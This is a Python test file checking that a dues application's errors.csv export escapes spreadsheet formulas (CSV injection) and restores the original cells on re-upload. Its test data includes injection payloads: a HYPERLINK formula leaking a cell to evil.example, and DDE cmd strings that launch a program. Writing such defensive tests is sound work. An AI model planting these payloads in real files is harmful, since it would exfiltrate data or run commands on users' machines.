"""errors.csv never hands a spreadsheet a formula (OWASP CSV injection), and comes back as it was uploaded."""

from __future__ import annotations

import pytest

from dues.db import Database
from dues.kit import csvsafe, files
from tests.support import Tenant
from tests.uploads.helpers import HEADER, accepted, csv_bytes, finished, good_row, read_csv

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("cell", FORMULAS)
def test_a_formula_cell_is_written_as_text(cell: str) -> None:
    written = files.write_csv(["name", cell], [[cell, "x"]])
    lines = read_csv(written)
    assert lines == [["name", "'" + cell], ["'" + cell, "x"]]


def test_ordinary_cells_are_written_as_they_are() -> None:
    cells = ["Acme Pvt Ltd", "'quoted by the person", "1180.50", "", "a=b", " =not a formula"]
    assert read_csv(files.write_csv(cells, [cells])) == [cells, cells]
    assert [csvsafe.restore(c) for c in cells] == cells


async def test_errors_csv_neutralises_formulas_and_reads_back_as_uploaded(
    committed: Database, seller: Tenant
) -> None:
    rows = []
    for n, cell in enumerate(FORMULAS):
        row = good_row(n)
        row[0] = cell  # legalName
        row[2] = "not-an-e-mail"  # the row fails, so it is in errors.csv
        rows.append(row)
    upload_id = await accepted(seller, csv_bytes(HEADER, rows))
    await finished(committed, seller, upload_id)

    response = await seller.get(f"/api/v0/upload/{upload_id}/errors.csv")

    assert response.status_code == 200
    lines = read_csv(response.content)
    assert len(lines) == len(FORMULAS) + 1
    for line in lines[1:]:
        assert line[0].startswith("'"), line
        assert not line[0].startswith(csvsafe.TRIGGERS)
    # Uploaded again as it is, each cell is the one first uploaded: the quote dues added is taken off.
    table = files.read_table(response.content, "csv", max_rows=100)
    assert sorted(cells[0] for _, cells in table.rows) == sorted(FORMULAS)
